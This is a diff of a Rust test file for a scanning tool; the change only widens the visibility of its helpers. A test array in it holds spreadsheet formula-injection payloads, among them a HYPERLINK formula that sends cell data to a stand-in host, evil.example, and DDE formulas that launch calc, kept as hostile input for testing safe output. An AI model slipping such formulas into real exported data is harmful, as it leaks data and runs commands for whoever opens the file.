@@ -17,7 +17,7 @@ exceptions: exceptions.yaml
 ";
 
 /// Names that do something somewhere.
-const NAMES: [&str; 24] = [
+pub(crate) const NAMES: [&str; 24] = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -48,7 +48,7 @@ fn json(text: &str) -> String {
     serde_json::to_string(text).expect("JSON")
 }
 
-fn hostile_company() -> Company {
+pub(crate) fn hostile_company() -> Company {
     let mut company = Company::new();
     company.extra = String::from(OUTPUTS);
     company.scopes.push(String::from("sessions"));
@@ -103,7 +103,7 @@ fn csv_field(text: &str) -> String {
     format!("\"{}\"", text.replace('"', "\"\""))
 }
 
-fn run() -> (Company, Run) {
+pub(crate) fn run() -> (Company, Run) {
     let company = hostile_company();
     company.write_all();
     let run = company.holdover(&["scan", "--as-of", NOW, "-v", "-v", "-v"]);
@@ -112,13 +112,13 @@ fn run() -> (Company, Run) {
     (company, run)
 }
 
-fn read(company: &Company, name: &str) -> String {
+pub(crate) fn read(company: &Company, name: &str) -> String {
     std::fs::read_to_string(company.path().join(name)).unwrap_or_else(|error| panic!("{name}: {error}"))
 }
 
 /// No character that a terminal obeys or that turns a line around.
 #[track_caller]
-fn is_plain(what: &str, text: &str) {
+pub(crate) fn is_plain(what: &str, text: &str) {
     for (number, line) in text.split('\n').enumerate() {
         let wrong = line.chars().find(|character| {
             character.is_control()
